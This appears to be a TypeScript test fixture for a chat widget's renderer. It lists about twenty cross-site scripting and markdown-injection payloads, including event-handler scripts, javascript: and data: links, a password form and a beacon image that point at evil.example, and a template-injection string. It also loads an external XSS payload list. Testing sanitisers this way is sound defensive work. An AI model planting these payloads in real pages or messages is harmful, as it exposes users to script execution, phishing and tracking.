import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';

/** Text that has run as code, loaded something or asked for a password in other chat widgets. */
export const hostileTexts: readonly string[] = [
  '<img src="/leak?img" onerror="window.hurt=1">',
  '<svg onload="window.hurt=1"><animate onbegin="window.hurt=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="password" type="password"><button>OK</button></form>',
  '<script>window.hurt=1</script>',
  '<a href="javascript:window.hurt=1">press</a>',
  '[press](javascript:window.hurt=1)',
  '[press](JAVASCRIPT:window.hurt=1)',
  '[press](java\tscript:window.hurt=1)',
  '[press](data:text/html,<script>parent.hurt=1</script>)',
  '[press](https://evil.example/login)',
  '[press](https://www.shanhai.example@evil.example/)',
  '![x](https://evil.example/beacon.png)',
  '<style>*{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '**<b onmouseover="window.hurt=1">bold</b>**',
  '<math><mtext><style><img src=x onerror="window.hurt=1"></style></mtext></math>',
  '<details open ontoggle="window.hurt=1">',
  '\u202e<video src=x onerror="window.hurt=1">',
  '{{constructor.constructor("window.hurt=1")()}}',
];

/** A public collection of payloads, where a copy lies beside the repository; it is not part of it. */
export function knownPayloads(): string[] {
  const list = resolve(import.meta.dirname, '../../../shared/fuzz/xss-payload-list.txt');
  if (existsSync(list)) return readFileSync(list, 'utf8').split('\n').filter((line) => line.trim() !== '');
  process.stderr.write('payload collection not found: only our own hostile texts are tried\n');
  return [];
}
